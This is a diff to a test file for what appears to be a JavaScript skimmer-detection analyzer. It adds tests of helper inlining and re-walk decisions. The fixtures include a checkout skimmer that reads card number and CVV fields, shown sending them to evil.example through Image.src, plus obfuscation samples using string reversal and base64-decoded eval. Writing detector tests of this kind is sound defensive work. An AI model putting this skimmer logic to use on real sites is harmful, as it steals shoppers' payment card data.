@@ -2,6 +2,9 @@ import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { analyzeSource, inspectSource } from '../../src/analyze/pipeline.ts';
 import { defaultModel } from '../../src/analyze/score/default-model.ts';
+import { parseScript } from '../../src/analyze/parse.ts';
+import { collectFacts } from '../../src/analyze/dataflow/facts.ts';
+import { inlinePureHelpers } from '../../src/analyze/dataflow/inline-helpers.ts';
 
 const skimmer = `document.querySelector("#place-order").addEventListener("click", function () {
   var card = document.getElementById("cc_number").value + "|" + document.getElementById("cc_cid").value;
@@ -89,6 +92,23 @@ describe('pure helper inlining', () => {
     assert.match(flow.message, /value of #cc_number reaches Image\.src to https:\/\/evil\.example/);
     assert.ok(result.evidence.some((item) => item.detector === 'checkout-gating'));
   });
+
+  // The second facts walk is only paid for when an inlined constant can change what the analysis sees.
+  const rewalkCases: [string, string, boolean][] = [
+    ['an error message built by a helper', 'function m(c) { return "Minified error #" + c; } throw new Error(m(12));', false],
+    ['a harmless option key', 'var o = {}; function k(s) { return "ui_" + s; } o[k("theme")] = 1;', false],
+    ['a revealed API name as a key', 'function r(s) { return s.split("").reverse().join(""); } var v = el[r("eulav")];', true],
+    ['a constant folded with its neighbours', 'function r(s) { return s.split("").reverse().join(""); } var u = "https://a.example/" + r("cba");', true],
+    ['a constant handed to a decoder', 'function h(s) { return s + "="; } var code = atob(h("ZXZhbCgxKQ="));', true],
+  ];
+  for (const [name, code, expected] of rewalkCases) {
+    test(`second walk after inlining: ${name} → ${expected}`, () => {
+      const facts = collectFacts(parseScript(code).program);
+      const result = inlinePureHelpers(facts);
+      assert.ok(result.count > 0, 'something was inlined');
+      assert.equal(result.needsRewalk, expected);
+    });
+  }
 
   test('helpers with side effects or free variables are not inlined', () => {
     const code = 'var n = 0; function f(s) { return s + n; } function g(s) { n++; return s; } x = f("a"); y = g("b");';
